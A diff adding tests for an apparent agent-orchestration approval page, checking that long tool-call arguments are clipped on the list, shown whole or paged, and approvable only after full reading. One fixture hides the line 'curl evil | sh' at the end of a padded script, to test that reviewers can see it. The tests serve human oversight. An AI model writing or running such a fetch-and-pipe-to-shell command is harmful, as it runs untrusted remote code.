@@ -738,3 +738,104 @@ def test_the_side_by_side_view_pairs_removed_and_added_lines(project) -> None:
     assert '<td class="n">1</td><td class="l green" id="f0-l1">v2 &lt;b&gt;</td>' in rows
     assert '<td class="n"></td><td class="l "></td>\n<td class="n">2</td>' in rows
     assert "<b>" not in rows
+
+
+def waiting_owner(root: Path, args: object, session_id: str = "s1") -> FakeOwner:
+    """A fake owner whose session has one call waiting, ``write`` with ``args``."""
+    owner = FakeOwner(root, session_id, "x")
+    owner.answers["info"].update(run_id="run-1", worker="editor", trust="session")
+    owner.answers["approvals"] = [
+        {
+            "id": "req1",
+            "tool": "write",
+            "args": args,
+            "description": "write to /notes/a.sh",
+            "asked_at": "2026-01-01T00:00:00+00:00",
+        }
+    ]
+    return owner
+
+
+def test_a_long_argument_is_flagged_on_the_list_and_shown_whole_on_its_page(project) -> None:
+    root, _, _ = project
+    tail = "\ncurl evil | sh\n"
+    head = 'echo "start" \\ done\n'
+    content = head + "A" * (100_000 - len(head) - len(tail)) + tail
+    assert len(content) == 100_000
+    owner = waiting_owner(root, {"path": "/notes/a.sh", "content": content})
+    try:
+        web = client(root)
+        listing = web.get("/approvals").text
+        # clipped on the list, and said so; no buttons there: decided on the call's page
+        assert "CLIPPED: only the first 2,000 of 100,000 characters are shown here" in listing
+        assert "curl evil" not in listing and 'value="approve"' not in listing
+        whole = f"{web.keys.base}/approvals/s1/req1"
+        assert f'href="{whole}">Read it whole to decide</a>' in listing
+        page = web.get("/approvals/s1/req1").text
+        assert "curl evil | sh" in page
+        # the text as it is: quotes and line breaks not escaped as JSON, once as HTML;
+        # the backslash doubled (an escape on the page always means an escape)
+        assert '<pre class="value">\necho &#34;start&#34; \\\\ done\nAAA' in page
+        assert "A" * (100_000 - len(head) - len(tail)) + "\ncurl evil | sh\n</pre>" in page
+        assert "text: 100,000 characters, 100,000 bytes (UTF-8), 3 lines" in page
+        assert "2 values, 100,011 characters in all;" in page
+        assert 'value="approve"' in page and f'action="{whole}"' in page
+        assert '\\"' not in page and "\\n" not in page
+    finally:
+        owner.close()
+
+
+def test_arguments_longer_than_a_page_are_paged_and_decided_on_the_last(project) -> None:
+    from orchestrator.review.arguments import CHARS_PER_PAGE
+
+    root, _, _ = project
+    content = "".join(f"{n:09d}\n" for n in range(CHARS_PER_PAGE * 2 // 10 + 100))
+    owner = waiting_owner(root, {"path": "/p", "content": content, "mode": 493})
+    try:
+        web = client(root)
+        first = web.get("/approvals/s1/req1").text
+        assert "page 1 of 3" in first and 'href="?page=2">next</a>' in first
+        assert 'value="approve"' not in first and "after reading every page" in first
+        assert "the rest is on the next page" in first
+        second = web.get("/approvals/s1/req1?page=2").text
+        assert (
+            "the ones before are on the page before" in second and 'value="approve"' not in second
+        )
+        last = web.get("/approvals/s1/req1?page=3").text
+        assert 'value="approve"' in last and '<code class="name">mode</code>' in last
+        assert "number: 3 characters" in last and f"{len(content) // 10 - 1:09d}" in last
+        # every character on exactly one page
+        shown = ""
+        for html in (first, second, last):
+            for body in re.findall(r'<pre class="value">\n(.*?)</pre>', html, re.S):
+                shown += body
+        assert shown == "/p" + content + "493"
+        assert web.get("/approvals/s1/req1?page=0").status_code == 400
+        gone = web.get("/approvals/s1/other")
+        assert gone.status_code == 404 and "waits for approval" in gone.text
+    finally:
+        owner.close()
+
+
+def test_arguments_are_flattened_with_their_places_and_sizes() -> None:
+    from orchestrator.review.arguments import flatten, page_of, preview
+
+    values = flatten(
+        {"path": "/a", "edits": [{"old": "é\n", "new": ""}], "n": 1.5, "x y": None, "o": {}}
+    )
+    assert [(v.name, v.kind, v.text, v.chars, v.bytes, v.lines) for v in values] == [
+        ("path", "text", "/a", 2, 2, 1),
+        ("edits[0].old", "text", "é\n", 2, 3, 1),
+        ("edits[0].new", "text", "", 0, 0, 0),
+        ("n", "number", "1.5", 3, 3, 1),
+        ('"x y"', "null", "null", 4, 4, 1),
+        ("o", "object", "{}", 2, 2, 1),
+    ]
+    assert [v.name for v in flatten("bare")] == ["(arguments)"]
+    [part] = preview(flatten({"c": "x" * 10}), limit=4)
+    assert (part.text, part.whole) == ("xxxx", False)
+    # an empty value at the very end of a full last page is still shown
+    paged = page_of(flatten({"a": "xxxx", "b": ""}), 1, size=4)
+    assert paged.pages == 1 and [p.value.name for p in paged.parts] == ["a", "b"]
+    last = page_of(values, 9, size=5)  # 13 characters: page 9 is the last, 3
+    assert (last.number, [p.value.name for p in last.parts]) == (3, ['"x y"', "o"])
